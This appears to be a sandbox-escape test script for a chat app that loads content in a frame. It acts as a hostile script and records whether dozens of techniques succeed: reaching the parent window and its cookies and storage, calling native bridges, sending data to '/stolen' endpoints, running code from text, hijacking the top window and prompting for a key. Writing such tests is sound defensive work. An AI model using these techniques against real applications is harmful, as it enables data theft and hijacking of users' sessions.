// What a script would try that has taken the place of OpenAI's: to get out of the chat document. Each attempt says
// whether it got anywhere; one that throws, is refused or is not answered in time did not.
(() => {
  const shell = `http://127.0.0.1:${location.port}`;
  const path = location.pathname.split('/')[1];
  const foreign = new URL(document.currentScript.src).origin;
  const elsewhere = foreign.replace('127.0.0.1', 'localhost');
  const LATE_MILLISECONDS = 3_000;

  const has = (value) => value !== undefined && value !== null;
  const loads = (tag, attributes, place = document.body) =>
    new Promise((resolve) => {
      const made = Object.assign(document.createElement(tag), attributes);
      made.addEventListener('load', () => resolve(true));
      made.addEventListener('error', () => resolve(false));
      place.append(made);
    });
  /** A frame of somebody's whose document got there answers for itself; an error page does not. */
  const frames = (src) =>
    new Promise((resolve) => {
      addEventListener('message', ({ data }) => data === `here ${src}` && resolve(true));
      document.body.append(Object.assign(document.createElement('iframe'), { src }));
    });
  const runs = (start) =>
    new Promise((resolve) => {
      const name = `ran_${Math.random().toString(36).slice(2)}`;
      Object.defineProperty(globalThis, name, { set: () => resolve(true) });
      start(`globalThis.${name} = 1`);
    });
  const reads = async (address, options) => (await (await fetch(address, options)).text()).length >= 0;
  const worker = (make) =>
    new Promise((resolve, reject) => {
      const made = make();
      const port = made.port ?? made;
      port.onmessage = () => resolve(true);
      made.onerror = reject;
    });
  const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));

  const ATTEMPTS = {
    // Up, into the shell.
    'parent document': () => has(parent.document),
    'parent address': () => has(parent.location.href),
    'parent path': () => has(parent.location.pathname),
    'parent receiver': () => has(parent.__agentnookReceive),
    'parent opener': () => has(parent.__agentnookOpen),
    'parent eval': () => parent.eval('1') === 1,
    'parent Function': () => parent.Function('return 1')() === 1,
    'parent storage': () => has(parent.localStorage),
    'parent session': () => has(parent.sessionStorage),
    'parent transport': () => has(parent.qt),
    'parent handlers': () => has(parent.webkit),
    'parent pywebview': () => has(parent.pywebview),
    'parent event': () => parent.dispatchEvent(new CustomEvent('agentnook:post', { detail: 'knock' })),
    'parent property': () => ((parent.stolen = 1), parent.stolen === 1),
    'parent cookies': () => has(parent.document.cookie),
    'frame element': () => has(frameElement),
    'sandbox attribute': () => (frameElement.removeAttribute('sandbox'), true),
    'same domain': () => ((document.domain = '127.0.0.1'), has(parent.document)),
    opener: () => has(opener),
    // The ways to Python that a page of ours could have.
    transport: () => has(globalThis.qt?.webChannelTransport),
    handlers: () => has(globalThis.webkit?.messageHandlers?.jsBridge),
    pywebview: () => has(globalThis.pywebview),
    'web view': () => has(globalThis.chrome?.webview),
    external: () => has(globalThis.external?.call),
    node: () => has(globalThis.process ?? globalThis.require),
    receiver: () => has(globalThis.__agentnookReceive),
    'shell module': async () => has((await import(`${shell}/${path}/shell/bridge.js`)).bridge),
    'shell module here': async () => has((await import(`/${path}/shell/bridge.js`)).bridge),
    // Out, with what it knows.
    'fetch shell': () => reads(`${shell}/${path}/shell/index.html`),
    'fetch shell blindly': () => reads(`${shell}/${path}/shell/index.html`, { mode: 'no-cors' }),
    'fetch elsewhere': () => reads(`${elsewhere}/stolen`),
    'fetch its own server': () => reads(`${foreign}/stolen`),
    'fetch blindly': () => reads(`${elsewhere}/stolen?secret`, { mode: 'no-cors' }),
    request: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        Object.assign(request, { onload: () => resolve(true), onerror: reject });
        request.open('GET', `${foreign}/stolen`);
        request.send();
      }),
    'web socket': () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${foreign.replace('http', 'ws')}/stolen`);
        Object.assign(socket, { onopen: () => resolve(true), onerror: reject });
      }),
    'event source': () =>
      new Promise((resolve, reject) => {
        Object.assign(new EventSource(`${foreign}/stolen`), { onopen: () => resolve(true), onerror: reject });
      }),
    image: () => loads('img', { src: `${foreign}/stolen.png` }),
    'style sheet': () => loads('link', { rel: 'stylesheet', href: `${foreign}/stolen.css` }, document.head),
    font: async () => (await new FontFace('x', `url(${foreign}/stolen.woff2)`).load()).status === 'loaded',
    'script elsewhere': () => loads('script', { src: `${elsewhere}/good/frame.js` }),
    'module elsewhere': async () => has(await import(`${elsewhere}/good/frame.js`)),
    sound: () =>
      new Promise((resolve, reject) => {
        Object.assign(new Audio(`${foreign}/stolen.ogg`), { onloadstart: null, oncanplay: () => resolve(true), onerror: reject });
      }),
    object: () => loads('object', { data: `${foreign}/good/frame.html` }),
    embed: () => loads('embed', { src: `${foreign}/good/frame.html` }),
    'frame elsewhere': () => frames(`${elsewhere}/good/here.html`),
    'frame of the shell': () => frames(`${shell}/${path}/shell/index.html`),
    'frame of data': () => frames('data:text/html,<script>parent.postMessage("here " + location.href, "*")</' + 'script>'),
    // Code from texts, which would outlive the script.
    eval: () => eval('1') === 1,
    'new Function': () => new Function('return 1')() === 1,
    'late text': () => runs((code) => setTimeout(code)),
    'script text': () =>
      runs((code) => document.head.append(Object.assign(document.createElement('script'), { textContent: code }))),
    'attribute text': () =>
      runs((code) => {
        const made = document.createElement('button');
        made.setAttribute('onclick', code);
        document.body.append(made);
        made.click();
      }),
    'frame text': () => runs((code) => document.body.append(
      Object.assign(document.createElement('iframe'), { srcdoc: `<script>${code.replace('globalThis', 'parent')}</` + 'script>' }),
    )),
    'script of data': () => runs((code) => document.head.append(
      Object.assign(document.createElement('script'), { src: `data:text/javascript,${code}` }),
    )),
    'script of a blob': () => runs((code) => document.head.append(
      Object.assign(document.createElement('script'), { src: blob(code) }),
    )),
    worker: () => worker(() => new Worker(blob('postMessage(1)'))),
    'shared worker': () => worker(() => new SharedWorker(blob('onconnect = ({ ports: [port] }) => port.postMessage(1)'))),
    'service worker': async () => has(await navigator.serviceWorker.register('./official.js')),
    // Away: the window's own address, other windows, the system.
    'top address': () => ((top.location = `${foreign}/taken`), true),
    'top address by name': () => (top.location.replace(`${foreign}/taken`), true),
    'form for the top': () => {
      const form = document.createElement('form');
      Object.assign(form, { action: `${foreign}/taken`, target: '_top' });
      document.body.append(form);
      form.submit();
      return false;
    },
    'link for the top': () => {
      const link = Object.assign(document.createElement('a'), { href: `${foreign}/taken`, target: '_top' });
      document.body.append(link);
      link.dispatchEvent(new MouseEvent('click', { bubbles: false }));
      return false;
    },
    download: () => {
      const link = Object.assign(document.createElement('a'), { href: blob('x'), download: 'taken.sh' });
      document.body.append(link);
      link.click();
      return false;
    },
    question: () => confirm('Enter your key') || has(prompt('Enter your key')),
    base: () => {
      document.head.append(Object.assign(document.createElement('base'), { href: `${foreign}/` }));
      return document.baseURI.startsWith(foreign);
    },
  };

  const late = () => new Promise((resolve) => setTimeout(resolve, LATE_MILLISECONDS, false));
  const outcome = async (attempt) => {
    try {
      return (await Promise.race([attempt(), late()])) === true;
    } catch {
      return false;
    }
  };
  const tried = Object.entries(ATTEMPTS).map(async ([name, attempt]) => [name, await outcome(attempt)]);
  void Promise.all(tried).then((all) => {
    globalThis.__escapes = { tried: all.length, escaped: all.filter(([, got]) => got).map(([name]) => name) };
    location.hash = 'tried';
  });
})();
